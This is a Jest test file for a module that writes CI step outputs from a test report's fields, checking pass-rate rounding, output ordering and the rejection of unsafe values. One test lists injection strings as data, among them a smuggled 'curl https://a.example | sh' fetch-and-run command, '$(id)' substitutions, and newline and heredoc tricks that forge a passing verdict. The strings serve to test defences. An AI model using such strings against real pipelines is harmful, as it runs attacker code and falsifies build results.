import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { outputsOf, unsafeOutputs, writeOutputs } from '../../src/surfaces/outputs.ts';
import { folderWith } from '../support/folder.ts';
import { reportOf, verdictOf } from '../support/reports.ts';
import { readOutputs } from '../support/runner.ts';

const COUNTS = { passed: 2, failed: 1, missing: 0, skipped: 5 };
/** A report whose service says this. */
const said = (text: string) =>
  reportOf([], {
    suite: { id: text, name: 'smoke', file: null },
    run: { id: text, status: text, result: 'failed', durationMs: null },
  });
const outputs = (text: string) => outputsOf(said(text), verdictOf('failed'), COUNTS, {});

test('are those of the report, the verdict first', () => {
  const places = { 'report-path': '/t/report.json', 'check-url': 'https://github.test/runs/1' };
  const all = outputsOf(said('x_1'), verdictOf('failed'), COUNTS, places);
  expect(Object.keys(all)[0]).toBe('verdict');
  const counted = { total: '3', passed: '2', failed: '1', 'pass-rate': '66.66' };
  const none = { 'summary-path': '', 'comment-url': '', 'artifact-url': '' };
  const ofRun = { status: 'x_1', result: 'failed', 'run-id': 'x_1', 'suite-id': 'x_1' };
  expect(all).toEqual({ verdict: 'failed', ...ofRun, ...counted, ...places, ...none });
});

test.each([
  [0, 0, ''],
  [29, 71, '29.00'],
  [9_999, 1, '99.99'],
  [99_999, 1, '99.99'],
  [0, 4, '0.00'],
  [1, 2, '33.33'],
])('%d of %d more: %s', (passed, failed, rate) => {
  const counts = { ...COUNTS, passed, failed };
  const all = outputsOf(reportOf([]), verdictOf('passed'), counts, {});
  expect(all).toMatchObject({ 'pass-rate': rate, 'run-id': '', status: '' });
});

test.each(['completed', 'jd7f0-9A', 'urn:run:1.2', 'timed_out', 'x'.repeat(200)])(
  '%s is safe',
  (text) => {
    expect(outputs(text)).toMatchObject({ status: text, 'run-id': text, 'suite-id': text });
    expect(unsafeOutputs(said(text))).toEqual([]);
  },
);

test.each([
  ...['"; curl https://a.example | sh; "', '$(id)', '`id`', "' || true #", 'a\nverdict=passed'],
  ...['a b', '-rf', '../../x', '$\u007b{ github.token }}', 'a<<EOF', '%0A::set-env', 'é', 'a\n'],
  ...['completed\u200b', 'x'.repeat(201)],
])('%j is left out and named', (text) => {
  expect(outputs(text)).toMatchObject({ status: '', 'run-id': '', 'suite-id': '' });
  expect(unsafeOutputs(said(text))).toEqual(['status', 'run-id', 'suite-id']);
});

test('the last value wins, and no value ends itself', () => {
  const path = join(folderWith(), 'output');
  writeOutputs(path, { verdict: 'incomplete', a: 'x\nverdict=passed\nverdict<<EOF\npassed\nEOF' });
  writeOutputs(path, outputs('x'));
  expect(readOutputs(readFileSync(path, 'utf8'))).toMatchObject({ verdict: 'failed', total: '3' });
});

test('a full disk is an error', () => {
  // The device of Linux that is always full; a folder elsewhere.
  const path = existsSync('/dev/full') ? '/dev/full' : folderWith();
  expect(() => writeOutputs(path, outputs('x'))).toThrow(/ENOSPC|EISDIR/);
});
